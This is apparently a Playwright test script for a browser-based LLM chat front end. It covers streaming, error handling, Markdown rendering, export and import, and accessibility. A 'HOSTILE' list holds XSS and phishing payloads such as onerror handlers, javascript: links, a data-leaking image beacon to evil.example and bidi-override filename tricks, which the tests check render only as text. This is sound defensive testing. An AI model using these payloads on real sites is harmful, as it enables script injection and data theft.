// Uses the web chat in a real browser: `node check.mjs [SCREENSHOTS]`; see README.md.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";

const require = createRequire(join(process.cwd(), "package.json"));
const { chromium } = require("playwright-core");
const axe = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");

const screenshots = process.argv[2];
const PHONE = { viewport: { width: 360, height: 740 }, deviceScaleFactor: 2, hasTouch: true, isMobile: true };
const DESKTOP = { viewport: { width: 1280, height: 860 } };

/** Starts the fake server; gives its address. */
function serve(...flags) {
  const server = spawn(process.env.PYTHON ?? "python3", [join(import.meta.dirname, "fake.py"), ...flags], { stdio: ["ignore", "pipe", "inherit"] });
  server.output = "";
  servers.push(server);
  return new Promise((resolve) => server.stdout.on("data", (data) => {
    server.output += data;
    resolve({ url: server.output.split("\n")[0], server });
  }));
}

/** Opens the page; every complaint of the browser, and every request elsewhere, is a failure. */
async function open(url, options = DESKTOP) {
  const context = await browser.newContext({ ...options, acceptDownloads: true });
  await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: url });
  const page = await context.newPage();
  page.complaints = [];
  page.on("console", (message) => {
    if (["error", "warning"].includes(message.type()) && !/status of (4|5)\d\d/.test(message.text())) page.complaints.push(message.text());
  });
  page.on("pageerror", (error) => page.complaints.push(String(error)));
  page.on("dialog", (dialog) => { page.complaints.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
  page.on("request", (request) => { if (!/^(data|blob):/.test(request.url()) && !request.url().startsWith(url)) page.complaints.push(`asks ${request.url()}`); });
  await page.goto(url);
  return page;
}

const ready = (page) => page.waitForFunction(() => document.querySelector("#model").options.length);
const done = (page, answers) => page.waitForFunction((count) => document.querySelectorAll(".assistant").length === count && !document.querySelector(".writing"), answers);
const last = (page) => page.locator(".assistant").last();
async function say(page, text) {
  await page.fill("#text", text);
  await page.press("#text", "Enter");
}

/** Fails at any violation that axe-core knows, best practices and target sizes included. */
async function accessible(page, name) {
  const context = page.context();
  const session = await context.newCDPSession(page); // evaluates beside the page's policy
  await session.send("Runtime.evaluate", { expression: axe });
  const { result } = await session.send("Runtime.evaluate", {
    expression: `axe.run(document, { rules: { "target-size": { enabled: true } } }).then((found) => JSON.stringify([found.violations, found.passes.length]))`,
    awaitPromise: true,
  });
  const [violations, passes] = JSON.parse(result.value);
  assert.deepEqual(violations.map((one) => `${name}: ${one.id}: ${one.nodes.map((node) => node.html).join(" ")}`), []);
  rules = Math.max(rules, passes);
}

const HOSTILE = [
  "<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>", "<svg/onload=alert(3)>", "<iframe srcdoc='<script>alert(4)</script>'></iframe>",
  "[click](javascript:alert(5))", "[click](JaVaScRiPt:alert(6))", "[click](data:text/html,<script>alert(7)</script>)", "[a](vbscript:x)", "[b](/v1/models)",
  "![pixel](https://evil.example/leak?q=secret)", "[bank.example](https://evil.example/login)", "https://good.example@evil.example/x", "<https://evil.example\" onmouseover=\"alert(8)>",
  "# <b onclick=alert(9)>heading</b>", "```<script>alert(10)</script>\n<img src=x onerror=alert(11)>\n```", "| <img src=x onerror=alert(12)> | b |\n|---|---|\n| `</td><script>` | **<u>** |",
  "abc \u202Egnp.exe\u202C and \u2066isolate", "[safe\u202E](https://evil.example/\u202Emoc.knab)", "1. <details open ontoggle=alert(13)>", "> <math><mtext></mtext></math>", "&lt;img src=x&gt; &#106;avascript", "{{constructor.constructor('alert(14)')()}}", "\u0000\uFFFE\uD800",
].join("\n\n");

const TESTS = {
  async "an answer streams, and its figures are shown"(page) {
    await say(page, "wait one two three four five six seven");
    await page.waitForFunction(() => /one/.test(document.querySelector(".assistant .body")?.textContent));
    assert(await page.isVisible("#stop") && !(await page.isVisible("#send")));
    assert.equal(await page.getAttribute(".assistant", "aria-busy"), "true");
    await done(page, 1);
    assert.equal(await last(page).locator(".body").textContent(), "one two three four five six seven");
    assert.match(await last(page).locator(".note").textContent(), /^\d+ tokens · [\d.]+ tokens\/s · first after [\d.]+ s · prompt 212, 192 cached$/);
    assert(await page.locator("#text").evaluate((node) => node === document.activeElement));
  },
  async "Escape and Stop end an answer, and the server sees it"(page, server) {
    for (const stop of [() => page.keyboard.press("Escape"), () => page.click("#stop")]) {
      const before = (server.output.match(/client left/g) ?? []).length;
      const count = await page.locator(".assistant").count();
      await say(page, `wait ${"word ".repeat(60)}`);
      await page.waitForFunction((n) => document.querySelectorAll(".assistant")[n]?.textContent.includes("word"), count);
      await stop();
      await done(page, count + 1);
      assert.match(await last(page).locator(".note").textContent(), /stopped/);
      for (let i = 0; i < 50 && (server.output.match(/client left/g) ?? []).length === before; i++) await page.waitForTimeout(50);
      assert.equal((server.output.match(/client left/g) ?? []).length, before + 1);
    }
  },
  async "Shift Enter makes a line, Enter in a composition does not send"(page) {
    await page.fill("#text", "say a");
    await page.press("#text", "Shift+Enter");
    assert.equal(await page.inputValue("#text"), "say a\n");
    await page.locator("#text").dispatchEvent("keydown", { key: "Enter", isComposing: true });
    assert.equal(await page.locator("article").count(), 0);
  },
  async "regenerate replaces the answer; edit replaces the last message"(page) {
    await say(page, "say first");
    await done(page, 1);
    await page.click("text=Regenerate");
    await done(page, 1);
    await say(page, "say second");
    await done(page, 2);
    await page.press("#text", "ArrowUp");
    assert.equal(await page.inputValue("#text"), "say second");
    await page.keyboard.press("Escape");
    assert.equal(await page.inputValue("#text"), "");
    await page.click("text=Edit");
    await page.fill("#text", "say third");
    await page.click("#send");
    await done(page, 2);
    assert.deepEqual(await page.locator(".body").allTextContents(), ["say first", "first", "say third", "third"]);
  },
  async "what is sent: system prompt, settings, model, messages"(page) {
    await page.selectOption("#model", "SmolLM2-135M-Instruct:sums");
    await page.click("#open");
    await page.fill("#system", "Be brief.");
    for (const [name, value] of [["temperature", "0"], ["top_p", "0.9"], ["max_tokens", "64"], ["seed", "7"]]) await page.fill(`[name=${name}]`, value);
    await page.click("text=Done");
    await say(page, "hello");
    await done(page, 1);
    assert.deepEqual(JSON.parse(await last(page).locator(".body").textContent()), {
      model: "SmolLM2-135M-Instruct:sums", messages: [{ role: "system", content: "Be brief." }, { role: "user", content: "hello" }],
      stream: true, stream_options: { include_usage: true }, temperature: 0, top_p: 0.9, max_tokens: 64, seed: 7,
    });
  },
  async "429 says when; the button waits and then succeeds"(page) {
    await say(page, "busy now");
    await page.waitForSelector("#notice:not([hidden])");
    assert.equal(await page.textContent("#alert"), "The server is busy. 8 requests are waiting. Try again in 2 seconds.");
    assert(await page.isDisabled("#retry"));
    await page.waitForSelector("#retry:enabled");
    await page.click("#retry");
    await done(page, 1);
    assert(!(await page.isVisible("#notice")));
  },
  async "503, 400, an error event and a cut connection are said; what was written stays"(page) {
    for (const [text, words] of [["unready", /not ready. The server is shutting down. Try again in 30 seconds/], ["refused", /refused \(400\). temperature is 9; use 0 to 2. <b>bold/]]) {
      await say(page, text);
      await page.waitForFunction((source) => RegExp(source).test(document.querySelector("#alert").textContent), words.source);
      assert.equal(await page.locator(".assistant").count(), 0);
      await page.click("#new");
    }
    for (const [text, count, words] of [["breaks half an answer", 1, /broke off: the engine failed/], ["cut half an answer", 2, /broke off|No connection/]]) {
      await say(page, text);
      await done(page, count);
      assert.match(await page.textContent("#alert"), words);
      assert.equal(await last(page).locator(".body").textContent(), "half an answer");
      assert.match(await last(page).locator(".note").textContent(), /broke off/);
    }
    await say(page, "long answer");
    await done(page, 3);
    assert.match(await last(page).locator(".note").textContent(), /cut at the limit/);
    page.complaints = page.complaints.filter((text) => !/ERR_INCOMPLETE_CHUNKED/.test(text));
  },
  async "hostile text stays text"(page) {
    await say(page, `say ${HOSTILE}`);
    await done(page, 1);
    const body = last(page).locator(".body");
    assert.equal(await body.locator("img, script, iframe, svg, details, math, u, b").count(), 0);
    const handlers = await body.evaluate((node) => [...node.querySelectorAll("*")].flatMap((one) => [...one.attributes]).map(({ name }) => name).filter((name) => /^on|style|srcdoc/.test(name)));
    assert.deepEqual(handlers, []);
    const links = await body.locator("a").evaluateAll((nodes) => nodes.map(({ protocol, rel, textContent }) => [protocol, rel, textContent]));
    assert(links.length >= 3);
    for (const [protocol, rel, text] of links) {
      assert.equal(protocol, "https:");
      assert.match(rel, /noopener/);
      assert.match(text, /evil\.example/);
    }
    const shown = await body.textContent();
    for (const text of ["<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>", "[click](javascript:alert(5))", "[click](data:text/html,<script>alert(7)</script>)"]) assert(shown.includes(text), text);
    const written = await page.evaluate(() => { try { document.body.innerHTML = "<p>x"; return true; } catch { return false; } });
    assert.equal(written, false); // trusted types: even a script of the page could not
    page.complaints = page.complaints.filter((text) => !/TrustedHTML/.test(text));
  },
  async "Markdown becomes the elements that it names"(page) {
    const cases = {
      "a **b** *c* `d` ~~e~~ __f__ _g_": "<p>a <strong>b</strong> <em>c</em> <code>d</code> <s>e</s> <strong>f</strong> <em>g</em></p>",
      "**a *b* c** ***d***": "<p><strong>a <em>b</em> c</strong> <strong><em>d</em></strong></p>",
      " a\n  b": "<p>a\n  b</p>",
      "2 * 3 * 4, snake_case_name, `a ** b`, \\*x\\*": "<p>2 * 3 * 4, snake_case_name, <code>a ** b</code>, *x*</p>",
      "# a\n### b\n#### c\n# d": "<h3>a</h3><h4>b</h4><h5>c</h5><h3>d</h3>",
      "3. a\n4. b\n   - c\n\n   d": '<ol start="3"><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul><p>d</p></li></ol>',
      "- a\nb\n\nc": "<ul><li><p>a\nb</p></li></ul><p>c</p>",
      "> a\n> > b": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>",
      "a\n\n---\nb": "<p>a</p><hr><p>b</p>",
      "|a|b|\n|-|-|\n|1|`2`|": "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td><code>2</code></td></tr></tbody></table></div>",
      "```py\n# **a**\n\n```\nb": "<div><div><span>py</span><button>Copy</button></div><pre><code># **a**\n</code></pre></div><p>b</p>",
      "````\n```\n````": "<div><div><span></span><button>Copy</button></div><pre><code>```</code></pre></div>",
      "- a\n  ```\n  b\n   c\n  ```\n- d": "<ul><li><p>a</p><div><div><span></span><button>Copy</button></div><pre><code>b\n c</code></pre></div></li><li><p>d</p></li></ul>",
      "see https://a.example/b?c=1. Or [d](https://a.example/e_(f)).": '<p>see <a href="https://a.example/b?c=1"><bdi>https://a.example/b?c=1</bdi></a>. Or <a href="https://a.example/e_(f)"><bdi>d</bdi> <bdi>(a.example)</bdi></a>.</p>',
    };
    const wrong = await page.evaluate(async (expected) => {
      const { render } = await import("./markdown.js");
      return Object.entries(expected).flatMap(([text, html]) => {
        const node = document.createElement("div");
        render(node, text);
        for (const one of node.querySelectorAll("*"))
          for (const { name } of [...one.attributes]) if (!["href", "start"].includes(name)) one.removeAttribute(name);
        return node.innerHTML === html ? [] : [[text, node.innerHTML, html]];
      });
    }, cases);
    assert.deepEqual(wrong, []);
  },
  async "text made to be slow is not"(page) {
    const slow = await page.evaluate(async () => {
      const { render } = await import("./markdown.js");
      const longest = ["*", "_", "**a", "`", "``a", "[", "[a](", "![](", "> ", "- ", "  - ", "#", "|", "|-", "~~a", "https://", "\\", "1. ", "```\n", "*a _b "].map((piece) => {
        const texts = [piece.repeat(40_000 / piece.length), `${piece}\n`.repeat(4_000), Array.from({ length: 400 }, (_, i) => " ".repeat(2 * i) + piece).join("\n")];
        const start = performance.now();
        for (const text of texts) render(document.createElement("div"), text);
        return [performance.now() - start, piece];
      });
      return longest.sort((a, b) => b[0] - a[0])[0];
    });
    console.log(`     slowest: ${Math.round(slow[0])} ms for ${JSON.stringify(slow[1])}`);
    assert(slow[0] < 2000, String(slow));
  },
  async "a stream leaves the same page as the whole"(page) {
    const same = await page.evaluate(async (texts) => {
      const { render } = await import("./markdown.js");
      const html = (node) => new XMLSerializer().serializeToString(node);
      return texts.every((text) => {
        const grown = document.createElement("div");
        const whole = document.createElement("div");
        for (let end = 0; end <= text.length; end++) render(grown, text.slice(0, end));
        render(whole, text);
        return html(grown) === html(whole);
      });
    }, [HOSTILE, SAMPLE, "a\n- b\n\n  c\n```\nd"]);
    assert(same);
  },
  async "new chat, and back"(page) {
    await say(page, "say kept");
    await done(page, 1);
    await page.click("#new");
    assert.equal(await page.locator("article").count(), 0);
    await page.click("#restore");
    assert.deepEqual(await page.locator(".body").allTextContents(), ["say kept", "kept"]);
    await say(page, `wait ${"word ".repeat(60)}`);
    await page.waitForSelector(".writing");
    await page.click("#new");
    await say(page, "say fresh");
    await done(page, 1);
    assert.deepEqual(await page.locator(".body").allTextContents(), ["say fresh", "fresh"]);
  },
  async "export and import give the same chat; a wrong file is named"(page) {
    await page.click("#open");
    await page.fill("#system", "Be kind.");
    await page.fill("[name=top_k]", "40");
    await page.click("text=Done");
    await say(page, "say **bold**");
    await done(page, 1);
    await page.click("#open");
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#export")]);
    const text = readFileSync(await download.path(), "utf8");
    const chat = { model: "SmolLM2-135M-Instruct", settings: { top_k: 40 }, messages: [{ role: "system", content: "Be kind." }, { role: "user", content: "say **bold**" }, { role: "assistant", content: "**bold**" }] };
    assert.deepEqual(JSON.parse(text), chat);
    await page.click("text=Done");
    await page.click("#new");
    const load = (body) => page.setInputFiles("#file", { name: "chat.json", mimeType: "application/json", buffer: Buffer.from(body) });
    await load(text);
    await done(page, 1);
    assert.equal(await page.inputValue("#system"), "Be kind.");
    assert.equal(await last(page).locator("strong").textContent(), "bold");
    for (const bad of ["{", "7", "null", '{"messages": 3}', '[{"role": "tool", "content": "x"}]', '[{"role": "user", "content": {"a": 1}}]', '{"messages": [null]}']) {
      await page.evaluate(() => { document.querySelector("#alert").textContent = ""; });
      await load(bad);
      await page.waitForFunction(() => /^This file is not/.test(document.querySelector("#alert").textContent));
      assert.equal(await page.locator("article").count(), 2, "the chat on the page was lost");
    }
  },
  async "copy gives what the model wrote"(page) {
    await say(page, "say **x**\n```py\nprint(1)\n```");
    await done(page, 1);
    await last(page).locator(".tools >> text=Copy").click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "**x**\n```py\nprint(1)\n```");
    await last(page).locator(".copy").click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "print(1)");
  },
  async "an address cannot send; a reload keeps the chat"(page) {
    await page.goto(`${new URL(page.url()).origin}/?q=say+hello#say`).catch(() => 0);
    await ready(page);
    await page.waitForTimeout(200);
    assert.equal(await page.locator("article").count(), 0);
    await say(page, "say kept");
    await done(page, 1);
    await page.reload();
    assert.deepEqual(await page.locator(".body").allTextContents(), ["say kept", "kept"]);
  },
  async "light, dark and the system's choice"(page) {
    const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const light = await ground();
    await page.emulateMedia({ colorScheme: "dark" });
    const dark = await ground();
    assert.notEqual(light, dark);
    await page.click("#open");
    await page.click("#themes >> text=Light");
    assert.equal(await ground(), light);
    await page.click("#themes >> text=System");
    assert.equal(await ground(), dark);
  },
  async "everything is reached in order with the keyboard; blocks are announced once"(page) {
    await say(page, "say One.\n\nTwo.\n\nThree.");
    await done(page, 1);
    const spoken = await page.locator("#spoken p").allTextContents();
    assert.deepEqual(spoken, ["One.", "Two.", "Three."]);
    await page.focus("#model");
    const seen = ["model"];
    while (seen.length < 10) {
      await page.keyboard.press("Tab");
      seen.push(await page.evaluate(() => document.activeElement.id || document.activeElement.textContent));
    }
    assert.deepEqual(seen, ["model", "new", "open", "log", "Copy", "Edit", "Copy", "Regenerate", "text", "send"]);
    await page.focus("#open");
    await page.keyboard.press("Enter");
    await page.keyboard.press("Escape");
    assert.equal(await page.evaluate(() => document.activeElement.id), "open");
  },
};

const SAMPLE = `Sorting by **insertion** keeps a growing prefix in order. Each new element moves left until it meets one that is not larger.

## How it works

1. Take the next element, \`key\`.
2. Shift larger elements one place to the right.
   - This reads each at most once.
   - It stops early on *sorted* input.
3. Put \`key\` into the gap.

\`\`\`python
def insertion_sort(values: list[int]) -> list[int]:
    """Sorts in place; O(n²) comparisons at worst, O(n) if sorted."""
    for i, key in enumerate(values):
        while i and values[i - 1] > key:
            values[i], i = values[i - 1], i - 1
        values[i] = key
    return values
\`\`\`

| input | comparisons | note |
|---|---|---|
| sorted | n − 1 | best case |
| reversed | n(n − 1)/2 | worst case |

> It is stable, and often the fastest choice below about 30 elements.

See [Wikipedia](https://en.wikipedia.org/wiki/Insertion_sort) for variants.`;

/** A wrong key, a right one, and where the key is afterwards: nowhere. */
async function locked() {
  const { url } = await serve("--key", "sesame-7f3a");
  const page = await open(url);
  await page.waitForSelector("#lock[open]");
  assert.equal(await page.textContent("#lock-text"), "This server needs a key.");
  await accessible(page, "key");
  await page.fill("#key", "wrong-key");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => /did not accept/.test(document.querySelector("#lock-text").textContent));
  await page.fill("#key", "sesame-7f3a");
  await page.click("text=Use this key");
  await ready(page);
  await say(page, "say hello");
  await done(page, 1);
  const kept = await page.evaluate(() => JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie, location.href, document.documentElement.outerHTML, document.querySelector("#key").value]));
  assert(!kept.includes("sesame") && !kept.includes("wrong-key"));
  await page.reload();
  await page.waitForSelector("#lock[open]");
  await page.click("#lock >> text=Cancel");
  await page.waitForFunction(() => /needs an API key/.test(document.querySelector("#alert").textContent));
  assert.deepEqual(page.complaints, []);
  await page.context().close();
}

/** axe-core over every state of the page, in one look; the pictures. */
async function look(url, name, options) {
  const page = await open(url, options);
  const picture = async (state) => {
    if (screenshots) await page.screenshot({ path: join(screenshots, `${name}-${state}.png`) });
    await accessible(page, `${name}-${state}`);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    assert(wide <= 0, `${name}-${state} is ${wide} px too wide`);
  };
  await ready(page);
  await picture("empty");
  await say(page, "Insertion sort, please: how does it work, and when is it a good choice?");
  await done(page, 1);
  await page.route("**/v1/chat/completions", (route) => {
    const body = route.request().postDataJSON();
    body.messages.at(-1).content = `say ${SAMPLE}`;
    route.continue({ postData: JSON.stringify(body) });
  });
  await page.click("text=Regenerate");
  await done(page, 1);
  await picture("end");
  await page.evaluate(() => { document.querySelector("#log").scrollTop = 0; });
  await picture("chat");
  await page.unroute("**/v1/chat/completions");
  await page.click("text=Edit");
  await picture("edit");
  await page.keyboard.press("Escape");
  await say(page, "wait A slow answer, word by word, so that there is time for a picture.");
  await page.waitForFunction(() => /word/.test([...document.querySelectorAll(".assistant .body")].at(-1).textContent));
  await picture("writing");
  await done(page, 2);
  await say(page, "unready");
  await page.waitForSelector("#notice:not([hidden])");
  await picture("refused");
  await page.click("#open");
  await picture("settings");
  await page.keyboard.press("Escape");
  assert.deepEqual(page.complaints, []);
  await page.context().close();
}

/** A server that runs already, at URL, with KEY if it asks for one: a chat of three turns. */
async function real(url, key) {
  const page = await open(url);
  if (key) {
    await page.fill("#key", "wrong");
    await page.keyboard.press("Enter");
    await page.waitForFunction(() => /did not accept/.test(document.querySelector("#lock-text").textContent));
    await page.fill("#key", key);
    await page.keyboard.press("Enter");
  }
  await ready(page);
  await page.click("#open");
  for (const [name, value] of [["max_tokens", "24"], ["temperature", "0.7"], ["top_p", "0.9"], ["top_k", "20"], ["repetition_penalty", "1.1"], ["seed", "5"]]) await page.fill(`[name=${name}]`, value);
  await page.click("text=Done");
  await say(page, "Once upon a time");
  await done(page, 1);
  const first = await last(page).locator(".body").textContent();
  assert.match(await last(page).locator(".note").textContent(), /tokens · [\d.]+ tokens\/s · first after [\d.]+ s · prompt \d+/);
  await page.click("text=Regenerate");
  await done(page, 1);
  assert.equal(await last(page).locator(".body").textContent(), first, "the same seed gave another answer");
  await page.click("#open");
  await page.fill("[name=max_tokens]", "100");
  await page.click("text=Done");
  await say(page, "And then?");
  await page.waitForFunction(() => document.querySelectorAll(".assistant .body")[1]?.textContent.length > 5);
  await page.keyboard.press("Escape");
  await done(page, 2);
  if (screenshots) await page.screenshot({ path: join(screenshots, "real.png") });
  await page.click("#new");
  await page.click("#open");
  await page.fill("[name=top_p]", "2");
  await page.keyboard.press("Escape");
  await say(page, "Too much");
  await page.waitForFunction(() => /refused \(400\).*top_p/.test(document.querySelector("#alert").textContent));
  console.log(`     ${await page.textContent("#alert")}`);
  await accessible(page, "real");
  assert.deepEqual(page.complaints, []);
}

const servers = [];
let rules = 0;
let failures = 0;
async function attempt(name, run) {
  try {
    await run();
    console.log(`ok   ${name}`);
  } catch (error) {
    failures++;
    console.log(`FAIL ${name}\n     ${error.stack.split("\n").slice(0, 12).join("\n     ")}`);
  }
}

const flags = "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync";
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: flags.split(" ") });
console.log(`Chromium ${browser.version()}`);
if (process.env.URL) await attempt(`a chat with ${process.env.URL}`, () => real(process.env.URL, process.env.KEY));
else {
  const { url, server } = await serve();
  const only = process.env.ONLY;
  for (const [name, run] of Object.entries(TESTS)) {
    if (only && !name.includes(only)) continue;
    await attempt(name, async () => {
      const page = await open(url);
      await ready(page);
      await run(page, server);
      assert.deepEqual(page.complaints, []);
      await page.context().close();
    });
  }
  if (!only || only === "look") {
    await attempt("a wrong key is asked for again, and a key is kept nowhere", locked);
    for (const [name, options] of [["light", { ...DESKTOP, colorScheme: "light" }], ["dark", { ...DESKTOP, colorScheme: "dark" }], ["phone", { ...PHONE, colorScheme: "light" }], ["phone-dark", { ...PHONE, colorScheme: "dark" }]])
      await attempt(`axe-core finds nothing, nothing is wider than the screen: ${name}`, () => look(url, name, options));
    console.log(`     up to ${rules} axe rules passed on a page`);
  }
}
await browser.close();
servers.forEach((one) => one.kill());
process.exit(failures ? 1 : 0);
